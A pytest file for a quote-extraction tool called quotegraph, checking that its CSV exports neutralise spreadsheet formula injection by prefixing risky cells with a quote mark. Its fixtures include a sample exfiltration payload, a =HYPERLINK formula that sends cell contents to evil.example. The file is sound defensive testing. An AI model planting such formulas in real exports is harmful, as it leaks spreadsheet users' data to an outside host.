"""CSV injection (OWASP): every CSV quotegraph writes (the CSV export, the CLI's --format
csv, the web's format=csv downloads) puts a ' before text a spreadsheet would run as a
formula, and leaves other text and numbers as they are."""
from __future__ import annotations

import csv
import io
import json

import pytest

from quotegraph import csvsafe
from quotegraph.cli import main
from quotegraph.store import ingest

from synth import Builder, write_jsonl

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click here for the harbour report")'
QUOTES = [HYPERLINK, "@SUM(1)", "+1 and the rest of the council", "-2+3 is what the budget says",
          "\tTabbed words about the bridge", "\rcarriage return first", "-42", "The bridge opens in May"]
NEUTRALISED = {q: "'" + q for q in QUOTES[:6]}
KEPT = {"-42": "-42", "The bridge opens in May": "The bridge opens in May"}


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    d = tmp_path_factory.mktemp("inj")
    recs = []
    b = Builder()
    for i, q in enumerate(QUOTES):
        b.say("Ana Okafor" if i % 2 else "@Evil Org", q, type_="person" if i % 2 else "organisation")
    recs.append(b.record("inj-1", outlet="=evil.example", published="2024-03-04", title="@Title of it",
                         url="https://evil.example/1"))
    b = Builder()
    b.say("Omar Haddad", HYPERLINK)          # a second article: the quote forms a group
    recs.append(b.record("inj-2", outlet="plain.example", published="2024-03-05", title="Plain title"))
    write_jsonl(d / "in.jsonl", recs)
    s = ingest([str(d / "in.jsonl")], str(d / "s.duckdb"))
    assert s.stored == 2 and s.failed == 0
    return d / "s.duckdb"


def check_quotes(rows: list[dict], column: str) -> None:
    got = {r[column] for r in rows}
    want = {**NEUTRALISED, **KEPT}
    assert set(want.values()) <= got, got
    assert not set(NEUTRALISED) & got          # no cell still starts with the formula


def test_cell():
    assert csvsafe.cell(HYPERLINK) == "'" + HYPERLINK and csvsafe.cell("@SUM(1)") == "'@SUM(1)"
    for s in ("+1+1", "-1+2", "=1", "\t=1", "\rx", "\nx", "-", "@"):
        assert csvsafe.cell(s) == "'" + s, s
    for v in (-3, 2.5, -0.25, 0, None, "", "-3", "+1.5e3", "-.5", "a=b", "Plain text", " =1", "'=1"):
        assert csvsafe.cell(v) == v, v
    assert type(csvsafe.cell(-3)) is int and type(csvsafe.cell(-0.25)) is float
    buf = io.StringIO()
    w = csvsafe.writer(buf)
    w.writerow(["=a", -1, 0.5, "b"])
    w.writerows([["@x", None], ["-7", "-7x"]])
    assert buf.getvalue().splitlines() == ["'=a,-1,0.5,b", "'@x,", "-7,'-7x"]


def test_cli_export_csv(db, tmp_path, capsys):
    out = tmp_path / "q.csv"
    assert main(["export", "--db", str(db), "--format", "csv", "-o", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(QUOTES) + 1
    check_quotes(rows, "content_text")
    first = next(r for r in rows if r["content_text"] == "'" + HYPERLINK)
    assert first["outlet"] == "'=evil.example" and first["title"] == "'@Title of it"
    assert first["speaker"] == "'@Evil Org" and first["speaker_in_article"] == "'@Evil Org"
    # normal cells and numbers unchanged
    assert first["id"] == "1" and first["confidence"] == "0.9" and first["kind"] == "direct"
    assert first["cue_text"] == "said" and first["article_id"] == "inj-1" and first["published_date"] == "2024-03-04"
    assert json.loads(first["content"])[0][1] - json.loads(first["content"])[0][0] == len(HYPERLINK)
    plain = next(r for r in rows if r["article_id"] == "inj-2")
    assert plain["outlet"] == "plain.example" and plain["speaker"] == "Omar Haddad"
    assert plain["content_text"] == "'" + HYPERLINK and plain["group_id"] == first["group_id"] != ""
    # the JSONL export keeps the text as it is
    assert main(["export", "--db", str(db), "--format", "jsonl", "-o", str(tmp_path / "a.jsonl")]) == 0
    recs = [json.loads(x) for x in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
    assert recs[0]["attributions"][0]["text"]["content"] == HYPERLINK and recs[0]["outlet"] == "=evil.example"
    capsys.readouterr()


def test_cli_format_csv(db, capsys):
    def rows(*args):
        assert main([*args, "--db", str(db), "--format", "csv"]) == 0
        return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    check_quotes(rows("quotes", "--limit", "0"), "quote")
    spk = {r["name"]: r for r in rows("speakers", "--role", "all")}
    assert set(spk) == {"'@Evil Org", "Ana Okafor", "Omar Haddad"}
    assert spk["'@Evil Org"]["quotes"] == "4" and spk["'@Evil Org"]["outlets"] == "'=evil.example"
    assert [r["content_text"] for r in rows("article", "inj-1")][:2] == ["'" + HYPERLINK, "'@SUM(1)"]
    g = rows("groups")
    assert [r["text"] for r in g] == ["'" + HYPERLINK] and g[0]["articles"] == "2"
    got = rows("sql", "SELECT content_text AS \"=q\", -1 AS n, 2.5 AS x, '-5' AS s FROM attributions "
                      "WHERE id = 2")
    assert got == [{"'=q": "'@SUM(1)", "n": "-1", "x": "2.5", "s": "-5"}]


def test_web_csv_downloads(db):
    from fastapi.testclient import TestClient

    from quotegraph.web import create_app

    def rows(c, url):
        r = c.get(url)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), url
        return list(csv.DictReader(io.StringIO(r.text)))

    with TestClient(create_app(db, search_index=True)) as c:
        search = rows(c, "/api/search?format=csv")
        check_quotes(search, "quote")
        first = next(r for r in search if r["quote"] == "'" + HYPERLINK and r["article_id"] == "inj-1")
        assert first["outlet"] == "'=evil.example" and first["title"] == "'@Title of it"
        assert first["speakers"] == "'@Evil Org" and first["confidence"] == "0.9" and first["id"] == "1"
        assert first["date"] == "2024-03-04" and first["cue"] == "said"
        sid = c.get("/api/speakers?name=okafor").json()["results"][0]["id"]
        check_quotes(rows(c, f"/api/speakers/{sid}?format=csv") + rows(c, "/api/speakers/1?format=csv"), "quote")
        spk = {r["name"]: r for r in rows(c, "/api/speakers?format=csv")}
        assert spk["'@Evil Org"]["quotes"] == "4" and spk["'@Evil Org"]["outlets"] == "'=evil.example"
        assert spk["Ana Okafor"]["mentions"] == "4"
        check_quotes(rows(c, "/api/articles/inj-1?format=csv"), "content_text")
        groups = rows(c, "/api/groups?format=csv")
        assert [(g["text"], g["articles"], g["appearances"]) for g in groups] == [("'" + HYPERLINK, "2", "2")]
        apps = rows(c, f"/api/groups/{groups[0]['id']}?format=csv")
        assert [a["quote"] for a in apps] == ["'" + HYPERLINK] * 2 and apps[0]["similarity"] == "1.0"
        outlets = {o["outlet"] for o in rows(c, "/api/outlets?format=csv")}
        assert outlets == {"'=evil.example", "plain.example"}
        people = rows(c, "/api/outlets/%3Devil.example?format=csv")
        assert {p["name"] for p in people} == {"'@Evil Org", "Ana Okafor"}
        # the JSON is unaltered
        assert {r["quote"] for r in c.get("/api/search?per_page=500").json()["results"]} == set(QUOTES)
